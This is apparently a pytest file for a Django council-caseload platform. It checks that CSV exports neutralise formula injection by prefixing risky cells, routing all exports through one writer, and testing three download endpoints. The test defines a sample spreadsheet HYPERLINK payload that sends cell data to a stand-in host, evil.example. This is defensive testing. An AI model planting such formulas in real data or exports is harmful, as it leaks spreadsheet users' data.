"""CSV formula injection: every CSV the product writes goes through core.csv_writer."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from django.test import Client
from django_tenants.utils import schema_context

from core.csv_writer import FORMULA_STARTS, csv_cell
from tenants.models import Council
from tests.conftest import sign_in

ROOT = Path(__file__).resolve().parents[2]
PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
SOURCE_FOLDERS = ["platform", "tenants", "caseload", "billing", "reminders", "correspondence"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("+44 1592 000000", "'+44 1592 000000"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Fife Council", "Fife Council"),
        ("-3", "-3"),
        ("-12.5%", "-12.5%"),
        (-3, -3),
        (None, None),
    ],
)
def test_cells_that_start_like_a_formula_are_written_as_text(value, written) -> None:
    assert csv_cell(value) == written


def test_no_module_writes_csv_but_the_one_writer() -> None:
    """A new CSV export must use core.csv_writer: calling csv.writer or csv.DictWriter
    anywhere else fails here."""
    offenders = []
    for folder in SOURCE_FOLDERS:
        for path in sorted((ROOT / folder).rglob("*.py")):
            if path.name == "csv_writer.py" or "migrations" in path.parts:
                continue
            for node in ast.walk(ast.parse(path.read_text())):
                if (
                    isinstance(node, ast.Attribute)
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                    and node.attr in ("writer", "DictWriter")
                ):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert not offenders, "write CSV through core.csv_writer: " + ", ".join(offenders)


def _cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


def test_a_council_name_from_a_trial_request_is_inert_in_every_central_csv(
    council_a, make_user
) -> None:
    """The issue's attack: a name typed into the public trial-request form reached three
    central CSV downloads as a live formula."""
    with schema_context("public"):
        Council.objects.filter(pk=council_a.pk).update(name=PAYLOAD)
    central = make_user(None)
    web = Client(HTTP_HOST="localhost")
    assert sign_in(web, None, central).status_code == 302
    downloads = [
        "/comparison/download.csv?councils=council-a",
        "/reports/council-a/evaluation.csv",
        "/reports/evaluation.csv?councils=council-a",
    ]
    for url in downloads:
        response = web.get(url)
        assert response.status_code == 200, url
        cells = _cells(response.content)
        assert "'" + PAYLOAD in cells, url
        live = [c for c in cells if c.startswith(FORMULA_STARTS) and csv_cell(c) != c]
        assert not live, (url, live)
